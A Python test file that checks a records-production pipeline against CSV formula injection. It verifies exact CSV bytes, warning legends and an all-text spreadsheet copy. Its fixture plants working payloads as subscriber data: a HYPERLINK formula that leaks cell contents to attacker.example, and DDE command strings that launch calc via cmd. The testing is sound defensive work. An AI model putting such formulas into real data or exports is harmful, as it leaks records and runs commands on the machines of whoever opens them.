"""A production whose records hold spreadsheet formulas (OWASP CSV injection) is delivered with its
CSVs exact, a legend that warns, and a copy in which no cell is a formula (issue 23).

The copy is read with openpyxl (not the library that wrote it) and, where LibreOffice is installed,
converted by `soffice --headless` as an investigator's spreadsheet would open it."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session
from temporalio.testing import ActivityEnvironment

from activities.production import ProductionActivities
from activities.records import RecordsActivities
from domain.contracts import PackageInput, RetrieveInput
from domain.production import evaluated_cell, plain_signed_number
from domain.vocabulary import RecordCategory
from recordstore.db import make_session_factory
from recordstore.models import Subscriber, TelephoneNumber
from recordstore.textcopy import scan_file
from tests.workflow_support import example

PRODUCED_AT = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
TARGET = "+13035550987"
HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&ENCODEURL(A2&B2),"Open case file")'
DDE = "=cmd|' /C calc'!A0"
AT_DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_LEAD = "\t=1+1"


@pytest.fixture(scope="module")
def planted(prepared_store):
    """A subscriber who planted formulas in the fields a subscriber controls: name, addresses, e-mail."""
    with Session(prepared_store) as session, session.begin():
        if session.scalar(select(Subscriber.id).where(Subscriber.account_number == "CO-FORMULA-1")) is None:
            subscriber = Subscriber(
                account_number="CO-FORMULA-1", name=HYPERLINK, service_street=DDE, service_city="Denver",
                service_state="CO", service_zip="80202", billing_street=TAB_LEAD, billing_city="Denver",
                billing_state="CO", billing_zip="80202", email=AT_DDE, date_of_birth=None, pin_salt=None,
                pin_hash=None, created_at=datetime(2021, 1, 1, tzinfo=UTC))
            session.add(subscriber)
            session.flush()
            session.add(TelephoneNumber(subscriber_id=subscriber.id, number=TARGET,
                                        valid_from=datetime(2021, 1, 1, tzinfo=UTC), valid_to=None))
    return prepared_store


def package(settings, store, request_id: str):
    env = ActivityEnvironment()
    document = example("subpoena", request_id, targets=[{"kind": "phone_number", "value": TARGET}],
                       records=["subscriber_info"])
    file = env.run(RecordsActivities(settings, store).retrieve_records, RetrieveInput(
        request_id=request_id, category=RecordCategory.SUBSCRIBER_INFO,
        document=document))
    packaged = env.run(ProductionActivities(settings, make_session_factory(store)).package_production,
                       PackageInput(request_id=request_id,
                                    produced_at=PRODUCED_AT, document=document, files=[file],
                                    approved_by={"analyst": "jdoe"}))
    return Path(packaged.staging_dir), packaged


def test_formula_payloads_stay_exact_in_the_csv_and_are_text_in_the_copy(settings, planted):
    folder, packaged = package(settings, planted, "CSVINJ-0001")
    raw = (folder / "subscriber_info.csv").read_bytes()
    # PostgreSQL's CSV quoting, written by hand: the payload's quotes doubled, nothing else touched.
    assert b'"=HYPERLINK(""https://attacker.example/?leak=""&ENCODEURL(A2&B2),""Open case file"")"' in raw
    assert b"\"=cmd|' /C calc'!A0\"" not in raw and b"=cmd|' /C calc'!A0," in raw
    assert b"@SUM(1+1)*cmd|' /C calc'!A0" in raw and b"\t=1+1" in raw

    manifest = json.loads((folder / "manifest.json").read_bytes())
    assert hashlib.sha256((folder / "manifest.json").read_bytes()).hexdigest() == packaged.manifest_sha256
    entries = {entry["name"]: entry for entry in manifest["files"]}
    assert sorted(entries) == ["field_legend.csv", "records_as_text.xlsx", "subscriber_info.csv"]
    copy = entries["records_as_text.xlsx"]
    assert copy["sha256"] == hashlib.sha256((folder / "records_as_text.xlsx").read_bytes()).hexdigest()
    assert copy["copy_of"] == ["subscriber_info.csv"] and copy["rows"] == 1
    assert entries["subscriber_info.csv"]["sha256"] == hashlib.sha256(raw).hexdigest()
    assert manifest["spreadsheet_formula_cells"] == [
        {"file": "subscriber_info.csv", "column": "name", "cells": 1, "formulas": 1},
        {"file": "subscriber_info.csv", "column": "service_street", "cells": 1, "formulas": 1},
        {"file": "subscriber_info.csv", "column": "billing_street", "cells": 1, "formulas": 1},
        {"file": "subscriber_info.csv", "column": "email", "cells": 1, "formulas": 1},
        {"file": "subscriber_info.csv", "column": "telephone_number", "cells": 1, "formulas": 0},
    ]
    assert packaged.file_count == 5  # the CSV, the legend, the copy, the manifest, the certificate

    with (folder / "field_legend.csv").open(newline="") as handle:
        warnings = {(row["file"], row["column"]): row["meaning"] for row in csv.DictReader(handle)
                    if row["meaning"].startswith(("WARNING", "NOTE"))}
    assert sorted(warnings) == [("subscriber_info.csv", "billing_street"), ("subscriber_info.csv", "email"),
                                ("subscriber_info.csv", "name"), ("subscriber_info.csv", "service_street"),
                                ("subscriber_info.csv", "telephone_number")]
    assert warnings[("subscriber_info.csv", "name")] == (
        "WARNING, spreadsheet formulas: 1 cell begins with =, +, -, @, a tab or a carriage return and is not a "
        "plain number: a spreadsheet would run it as a formula (a link, a command); open records_as_text.xlsx, "
        "where every cell is text; this CSV keeps the exact bytes retrieved")
    assert warnings[("subscriber_info.csv", "telephone_number")].startswith("NOTE, spreadsheet numbers: 1 cell is")
    assert not any("HYPERLINK" in meaning for meaning in warnings.values())  # counts, never the values

    certificate = (folder / "certificate_of_authenticity.txt").read_text()
    assert f"records_as_text.xlsx                          1 rows  sha256 {copy['sha256']}" in certificate
    assert "4. records_as_text.xlsx is a copy of the CSV files above" in certificate
    assert packaged.manifest_sha256 in certificate

    sheet = load_workbook(folder / "records_as_text.xlsx").worksheets[0]
    assert sheet.title == "subscriber_info"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = dict(zip(header, [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))], strict=True))
    assert (row["name"], row["service_street"], row["billing_street"], row["email"], row["telephone_number"]) == (
        HYPERLINK, DDE, TAB_LEAD, AT_DDE, TARGET)
    named = {cell.value: cell for cell in cells}
    assert named[HYPERLINK].data_type == "s" and named[TARGET].data_type == "s"
    assert named[HYPERLINK].number_format == "@"


def test_a_retried_packaging_writes_the_same_copy(settings, planted):
    folder, first = package(settings, planted, "CSVINJ-0002")
    copy = (folder / "records_as_text.xlsx").read_bytes()
    _, again = package(settings, planted, "CSVINJ-0002")
    assert (folder / "records_as_text.xlsx").read_bytes() == copy
    assert again.manifest_sha256 == first.manifest_sha256


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_copy_without_running_a_formula(settings, planted, tmp_path):
    folder, _ = package(settings, planted, "CSVINJ-0003")
    converted = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(folder / "records_as_text.xlsx")],
        capture_output=True, text=True, timeout=180)
    assert converted.returncode == 0, converted.stderr
    shown = (tmp_path / "records_as_text.csv").read_text()
    assert "Open case file\"" in shown and "=HYPERLINK(" in shown  # the formula's text, not its result
    assert "+13035550987" in shown  # a telephone number keeps its +


def test_a_production_without_evaluated_cells_has_no_copy(tmp_path):
    plain = tmp_path / "service_history.csv"
    plain.write_bytes(b"account_number,service_type,started_on\nCO-770123,wireless,2021-03-15\n")
    scan = scan_file(plain)
    assert scan.evaluated == {} and scan.findings() == []


@pytest.mark.parametrize(("cell", "evaluated", "plain_number"), [
    ("=1+1", True, False), ("+13035550123", True, True), ("-360", True, True), ("-12.50", True, True),
    ("@SUM(A1)", True, False), ("\t=1", True, False), ("\r=1", True, False), ("-1+cmd|' /C calc'!A0", True, False),
    ("Daniel Reyes", False, False), ("", False, False), (" =1", False, False), ("a=1", False, False),
])
def test_the_owasp_leading_characters(cell, evaluated, plain_number):
    assert evaluated_cell(cell) is evaluated
    assert (evaluated and plain_signed_number(cell)) is plain_number


def test_a_long_file_continues_on_further_worksheets_and_a_long_cell_is_cut_and_counted(tmp_path, monkeypatch):
    from recordstore import textcopy

    monkeypatch.setattr(textcopy, "SHEET_ROWS", 3)  # Excel's 1,048,576, made small enough to reach
    (tmp_path / "call_records_outgoing.csv").write_text(
        "caller_number,note\n+13035550123,=1+1\n+13035550124,b\n+13035550125,c\n+13035550126,d\n")
    (tmp_path / "billing_records.csv").write_text("account_number,note\nCO-770123,\"" + "x" * 40_000 + "\"\n")
    copy = textcopy.write_text_copy(tmp_path, ["call_records_outgoing.csv", "billing_records.csv"],
                                    datetime(2026, 11, 28, 12, 0, tzinfo=UTC))
    assert (copy.rows, copy.cut_cells) == (5, 1)
    book = load_workbook(tmp_path / "records_as_text.xlsx")
    assert book.sheetnames == ["call_records_outgoing", "call_records_outgoing (2)", "billing_records"]
    values = {sheet.title: [[c.value for c in row] for row in sheet.iter_rows()] for sheet in book.worksheets}
    assert values["call_records_outgoing"] == [["caller_number", "note"], ["+13035550123", "=1+1"],
                                               ["+13035550124", "b"]]
    assert values["call_records_outgoing (2)"] == [["caller_number", "note"], ["+13035550125", "c"],
                                                   ["+13035550126", "d"]]
    assert values["billing_records"][1] == ["CO-770123", "x" * 32_767]
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "billing_records.csv", "call_records_outgoing.csv", "records_as_text.xlsx"]  # no scratch file left
